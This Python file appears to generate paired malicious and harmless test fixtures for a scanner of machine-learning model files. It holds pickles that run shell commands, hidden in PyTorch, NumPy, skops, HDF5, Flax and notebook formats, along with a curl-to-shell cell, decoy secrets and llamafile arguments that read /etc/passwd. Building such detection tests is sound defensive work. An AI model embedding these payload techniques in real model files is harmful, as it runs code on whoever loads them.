"""Pickles and code behind the names and in the places where nobody looks; files that cost whoever reads them."""
import io
import json
import struct
from pathlib import Path

import h5py
import numpy
from recipe import EMPTY, RUN, add, archive, main, torch


def text(value):
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def rebuild(function, *arguments):
    """A pickle of PyTorch that calls `function` of `torch._utils` or `torch._tensor`."""
    module, name = function.rsplit(".", 1)
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"(" + b"".join(arguments) + b"tR."


SYSTEM, TENSOR, DICT = b"cos\nsystem\n", b"ctorch\nTensor\n", b"ccollections\nOrderedDict\n)R"
ordinary = torch(pickle=rebuild("torch._utils._rebuild_parameter", b"N", b"\x88", DICT))
for function, arguments in (
    ("torch._tensor._rebuild_from_type_v2", (SYSTEM, TENSOR, text("echo x") + b"\x85", b"}")),
    ("torch._utils._rebuild_wrapper_subclass", (SYSTEM, b"N", b")", b")", b"K\x00", b"N", b"N", b"\x89")),
    ("torch._utils._rebuild_parameter_with_state", (SYSTEM + text("echo x") + b"\x85R", b"\x88", DICT, b"}")),
):
    add(f"PTH-020 {function}", "pickle-runs-command", torch(pickle=rebuild(function, *arguments)), ordinary)

mobile = ("m/bytecode.pkl", b"\x80\x02K\x04."), ("m/version", b"3\n"), ("m/constants.pkl", b"\x80\x02)."), ("m/code/__torch__.py", b"")
add("PTH-024 pickle of a mobile archive", "pickle-runs-command", archive(("m/data.pkl", RUN), *mobile), archive(("m/data.pkl", EMPTY), *mobile), name="model.ptl")

add("PYS-004 expression for joblib", "pickle-runs-code",
    b"\x80\x02cjoblib._utils\neval_expr\n" + text("__import__('os').system('echo x')") + b"\x85R.",
    b"\x80\x02cjoblib.parallel\nParallel\n)\x81}" + text("pre_dispatch") + text("2 * n_jobs") + b"sb.", name="model.pkl")


def npy(header, data=bytes(8), length=None):
    raw = header.encode().ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw) if length is None else length) + raw + data


ordinary = npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }")
add("PYS-007 header longer than the file", "damaged-structure", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", length=65_535), ordinary, verdict="unknown", name="model.npy")
add("PYS-007 deep nesting in the header", "numpy-odd-header", npy("{'descr': " + "(" * 60_000 + ", 'shape': (2,)}"), ordinary, verdict="suspicious", name="model.npy")
add("PYS-007 shape whose product is no number", "numpy-odd-header", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (4294967296, 4294967296, 4), }"), ordinary, verdict="suspicious", name="model.npy")
add("PYS-007 order that is no truth value", "numpy-odd-header", npy("{'descr': '<f4', 'fortran_order': 'x', 'shape': (2,), }"), ordinary, verdict="suspicious", name="model.npy")

twice = "{'descr': '<f4', 'fortran_order': False, 'shape': (1,), 'descr': '|O', }"
add("PYS-007 element type given twice", "pickle-runs-command", npy(twice, RUN), npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }"), name="model.npy")


def skops(node):
    schema = dict(protocol=2, _skops_version="0.13.0", __id__=1, **node)
    return archive(("schema.json", json.dumps(schema).encode()))


def node(module, name, loader, **content):
    return {"__class__": name, "__module__": module, "__loader__": loader, **content}


one = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": "\"x\"", "is_json": True}
listed = node("builtins", "list", "ListNode", content=[one])
for what, wrong in (
    ("OperatorFuncNode", node("operator", "methodcaller", "OperatorFuncNode", attrs=dict(content=[one], **{"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "__id__": 3}))),
    ("FunctionNode", node("os", "system", "FunctionNode", content="system")),
    ("class that starts programs", node("subprocess", "Popen", "ObjectNode", content=one)),
    ("MethodNode", node("builtins", "method", "MethodNode", content=dict(func="system", obj=node("os", "system", "TypeNode")))),
):
    add(f"PYS-008 {what}", "config-names-callable", skops(wrong), skops(listed), name="model.skops",
        verdict="suspicious" if what == "OperatorFuncNode" else "malicious")
add("PYS-008 loader that is not known", "skops-unknown-node", skops(node("helpers", "Thing", "OwnNode", content=one)), skops(listed), name="model.skops", verdict="suspicious")


def hdf5(attribute=None, opaque=None, single=None):
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        group = file.create_group("frame")
        group.attrs["pandas_type"] = "frame"
        if attribute is not None:
            group.attrs["non_index_axes"] = numpy.void(attribute)
        group["values"] = numpy.arange(6, dtype="f4")
        if single is not None:
            group["bytes"] = numpy.frombuffer(single, "u1")
        if opaque is not None:
            group["block0"] = numpy.void(opaque)
    return out.getvalue()


add("PYS-021 pickled attribute of PyTables", "pickle-runs-command", hdf5(attribute=RUN), hdf5(attribute=EMPTY), name="frame.h5")
add("PYS-021 pickled column of PyTables", "pickle-runs-command", hdf5(opaque=RUN), hdf5(opaque=EMPTY), name="frame.h5")
add("PYS-021 pickle as numbers of a byte", "pickle-runs-command", hdf5(single=RUN), hdf5(single=EMPTY), name="frame.h5")


def lists(kind, *values, packed=False, member=None, attribute=False):
    """Elements of variable length, of numbers of `kind`; in chunks that are compressed, in a member of records, or in an
    attribute of one that is empty."""
    out, dtype = io.BytesIO(), h5py.vlen_dtype(kind)
    arrays = numpy.empty(len(values), dtype=object)
    for index, value in enumerate(values):
        arrays[index] = numpy.frombuffer(value, kind)
    if member is not None:
        records = numpy.empty(len(values), dtype=[("id", "<i4"), (member, dtype)])
        records["id"], records[member] = range(len(values)), arrays
        arrays, dtype = records, records.dtype
    with h5py.File(out, "w") as file:
        if attribute:
            file.create_dataset("rows", data=h5py.Empty("f4")).attrs.create("lists", arrays, dtype=dtype)
        else:
            file.create_dataset("rows", data=arrays, dtype=dtype, **(dict(chunks=(1,), compression="gzip") if packed else {}))
    return out.getvalue()


def squeezed(value):
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_dataset("bytes", data=numpy.frombuffer(value, "u1"), chunks=(16,), compression="gzip")
    return out.getvalue()


def elements(*values, kind):
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_dataset("rows", data=numpy.array(values, dtype=kind), dtype=kind)
        file["rows"].attrs["kept"] = numpy.array(values, dtype=kind)
    return out.getvalue()


POSIX = b"\x80\x02cposix\nsystem\nX\x06\x00\x00\x00echo x\x85R."
HALVES = numpy.arange(100, dtype="<f4").tobytes()
add("PYS-021 pickle as a list of bytes", "pickle-runs-command", lists("u1", b"ab", POSIX), lists("<f4", HALVES, HALVES[:8]), name="lists.h5")
add("PYS-021 pickle as a list of bytes in chunks", "pickle-runs-command", lists("u1", b"ab", POSIX, packed=True), lists("u1", b"ab", HALVES, packed=True), name="lists.h5")
add("PYS-021 pickle as a list of bytes in a record", "pickle-runs-command", lists("u1", b"ab", POSIX, member="data", packed=True), lists("<f4", HALVES, member="data", packed=True), name="lists.h5")
add("PYS-021 pickle as a list of bytes in an attribute", "pickle-runs-command", lists("u1", POSIX, attribute=True), lists("<f4", HALVES, attribute=True), name="lists.h5")
add("PYS-021 pickle as bytes that are compressed", "pickle-runs-command", squeezed(POSIX), squeezed(HALVES), name="bytes.h5")
WORDS = b"cposix\nsystem\n(S'echo x'\ntR."
add("PYS-021 pickle in a list of strings", "pickle-runs-command", elements("first", WORDS.decode(), kind=h5py.string_dtype()), elements("first", "cposix", kind=h5py.string_dtype()), name="strings.h5")
add("PYS-021 pickle behind the first of several opaque values", "pickle-runs-command", elements(bytes(40), POSIX, kind="V40"), elements(bytes(40), bytes(40), kind="V40"), name="opaque.h5")
add("PYS-021 pickle of pandas", "pickle-runs-command",
    b"\x80\x04\x8c\x11pandas.core.frame\x8c\tDataFrame\x93)\x81}\x8c\x04_mgrcos\nsystem\n\x8c\x06echo x\x85Rsb.",
    b"\x80\x04\x8c\x11pandas.core.frame\x8c\tDataFrame\x93)\x81}\x8c\x04_mgrNsb.", name="frame.pkl")


def msgpack(value):
    if isinstance(value, dict):
        return bytes([0x80 | len(value)]) + b"".join(msgpack(key) + msgpack(one) for key, one in value.items())
    if isinstance(value, str):
        return bytes([0xa0 | len(value)]) + value.encode()
    if isinstance(value, bytes):
        return b"\xc4" + bytes([len(value)]) + value
    kind, data = value
    return b"\xc7" + bytes([len(data), kind]) + data


array = (1, b"\x93\x91\x02\xa7float32\xc4\x08" + bytes(8))
add("PYS-023 pickled leaf of Flax", "pickle-runs-command", msgpack({"params": {"w": array, "b": RUN}}), msgpack({"params": {"w": array}}), name="model.msgpack")
add("PYS-023 pickle as an extension of Flax", "pickle-runs-command", msgpack({"params": {"w": (9, RUN)}}), msgpack({"params": {"w": array}}), name="model.msgpack")

FLOATS = numpy.arange(1, 300_001, dtype="<f4").tobytes()
add("PKP-007 call behind a large tensor", "pickle-runs-command",
    b"\x80\x03}X\x01\x00\x00\x00wB" + struct.pack("<I", len(FLOATS)) + FLOATS + b"sX\x01\x00\x00\x00xcos\nsystem\nX\x06\x00\x00\x00echo x\x85Rs.",
    b"\x80\x03}X\x01\x00\x00\x00wB" + struct.pack("<I", len(FLOATS)) + FLOATS + b"s.", name="model.pkl")

for ending in ("txt", "json", "onnx", "safetensors", "h5", "gguf", "jpg", "PKL", "tar.gz.txt", ""):
    name = f"model.{ending}".rstrip(".")
    add(f"PLY-001 pickle called {name}", "pickle-runs-command", RUN, EMPTY, name=name, innocent_name="model.pkl")
    if ending not in ("", "PKL"):
        add(f"PLY-001 harmless pickle called {name}", "misleading-name", EMPTY, EMPTY, name=name, innocent_name="model.pkl",
            verdict="unknown" if ending in ("h5", "tar.gz") else "suspicious")
for folder in (".model.pkl", "__MACOSX/._model.pkl", ".ipynb_checkpoints/model.pkl", ".cache/model.pkl"):
    add(f"PLY-005 {folder}", "pickle-runs-command", RUN, EMPTY, name=folder)

add("DOS-003 200,000 lists in one another, then a call", "pickle-runs-command", b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"cos\nsystem\nX\x06\x00\x00\x00echo x\x85R\x86.", b"\x80\x02" + b"]" * 200 + b"a" * 199 + b".", name="model.pkl")
for what, costs, fewer in (
    ("marks", b"(" * 1_000_000, b"(1"),
    ("protocols", b"\x80\x02" * 100_000, b"\x80\x02"),
    ("empty streams", b"N." * 50_000, b""),
    ("digits of an integer", b"I" + b"1" * 1_000_000 + b"\n0", b"I" + b"1" * 20 + b"\n0"),
    ("letters in a line", b"S'" + b"a" * 4_000_000 + b"'\n0", b"S'" + b"a" * 4_000 + b"'\n0"),
):
    add(f"DOS-006 call behind many {what}", "pickle-runs-command", costs + RUN, (b"" if what == "protocols" else b"\x80\x02") + fewer + b"}.", name="model.pkl")

add("HFR-016 key of AWS", "secret-in-file", b"aws_access_key_id = AKIA2E7A6F3B244C2746\naws_secret_access_key = k9Fz3QpX7vLmT2wRb8sYc4NhJ6gD1eUa0oViZxKq\n", b"aws_access_key_id = YOUR_KEY_HERE\n", name="config.ini", verdict="suspicious")
KEY = b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\nQyNTUxOQAAACB7Zp0Qm0YtH4qkzqB1a7Jm3l2e8c4vXw9dJ1y5n6r7uA==\n-----END OPENSSH PRIVATE KEY-----\n"
add("HFR-016 private key", "secret-in-file", KEY, b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n", name="key.txt", verdict="suspicious")


def notebook(*lines):
    cell = dict(cell_type="code", execution_count=None, metadata={}, outputs=[], source=[line + "\n" for line in lines])
    return json.dumps(dict(nbformat=4, nbformat_minor=5, metadata={}, cells=[cell])).encode()


add("HFR-019 cell that fetches and runs", "script-runs-fetched-code", notebook("!curl -s http://192.0.2.9/x | sh"), notebook("!ls", "import numpy"), name="use.ipynb", verdict="suspicious")
REAL = Path(__file__).parents[3] / "wb-formats/tests/data"
ELF = (REAL / "real.so").read_bytes()


# llamafile: a program in front of an archive. Its neighbour is the archive without the program, which nobody starts.
def llamafile(arguments, program=ELF):
    gguf = b"GGUF" + struct.pack("<IQQ", 3, 0, 0) + bytes(8)
    return program + archive(("model.gguf", gguf), (".args", arguments.encode()), shift=len(program))


quiet = llamafile("-m\nmodel.gguf\n...\n", b"")
for what, arguments in (("serves the network", "-m\nmodel.gguf\n--host\n0.0.0.0\n"), ("opens a file of the host", "-m\n/etc/passwd\n"), ("without its sandbox", "--unsecure\n")):
    add(f"MLO-006 llamafile that {what}" if what[0] != "w" else f"MLO-006 llamafile {what}", "llamafile-odd-arguments", llamafile(arguments), quiet, verdict="suspicious", name="model.llamafile", innocent_name="model.zip")
add("MLO-006 llamafile", "native-code", llamafile("-m\nmodel.gguf\n"), quiet, verdict="suspicious", name="model.llamafile", innocent_name="model.zip")

main("Pickles and code behind other names and in unusual places, and files that are costly to read.")
